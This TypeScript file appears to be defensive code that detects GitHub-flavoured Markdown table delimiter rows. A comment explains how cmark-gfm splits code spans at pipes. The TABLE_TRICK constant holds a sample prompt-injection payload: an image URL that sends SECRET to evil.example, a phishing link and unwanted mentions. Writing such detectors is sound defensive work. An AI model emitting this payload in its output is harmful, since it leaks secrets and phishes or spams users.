/*
 * GitHub renders with cmark-gfm, whose table starts at a delimiter row that needs no pipe
 * (extensions/ext_scanners.re: `[|]? table_marker ([|] table_marker)* [|]? spacechar* newline`,
 * `table_marker = spacechar* [:]? [-]+ [:]? spacechar*`) and may interrupt a paragraph, whose
 * line before becomes the header. markdown-it wants a pipe in the header: it sees a paragraph.
 * In GitHub's table each later line is cut into cells at every unescaped pipe, inside code spans
 * too: with cmark-gfm 0.29.0.gfm.13, "Steps\n:-:\n`@octocat|x`" renders <th>Steps</th> and
 * <td>`@octocat</td>, a live mention (found by a review).
 */
const GFM_TABLE_START = /^\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$/;

/** Lines (quote and list markers and indentation removed) GitHub reads as a delimiter row. */
export function gfmDelimiterRows(markdown: string): string[] {
  return markdown
    .split("\n")
    .map((line) => line.replace(/^(?:[ \t]*(?:>|[-*+][ \t]|\d{1,9}[.)][ \t]))*[ \t]*/, ""))
    .filter((line) => GFM_TABLE_START.test(line));
}

// What a prompt-injected model is told to answer (or a hostile issue's text it quotes).
export const TABLE_TRICK = [
  "Steps",
  ":-:",
  "@octocat|x",
  "@github/security-team|x",
  '`<img src="https://evil.example/t.png?d=SECRET">|x`',
  "https://evil.example/phish|x",
  "other/repo#1|x",
].join("\n");
